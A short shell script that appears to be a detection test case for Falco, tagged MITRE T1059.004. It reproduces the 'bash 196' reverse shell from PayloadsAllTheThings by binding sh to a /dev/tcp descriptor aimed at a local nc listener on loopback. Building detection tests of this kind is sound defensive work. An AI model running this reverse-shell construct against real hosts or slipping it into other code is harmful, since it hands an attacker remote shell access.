#!/bin/sh
# case: T1059.004-descriptor-196-shell
# technique: Shell bound to a descriptor of bash
# source: PayloadsAllTheThings bash 196; Falco Redirect STDOUT/STDIN to Network Connection in Container
# needs: bash nc
# expect: exec net
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need bash nc
P=$((20000 + $$ % 20000)); (echo 'id'; sleep 1) | nc -l 127.0.0.1 "$P" >/dev/null 2>&1 & L=$!; sleep 0.5
timeout 3 bash -c "exec 196<>/dev/tcp/127.0.0.1/$P; sh <&196 >&196 2>&196"; kill $L 2>/dev/null; wait 2>/dev/null; true
exit 0
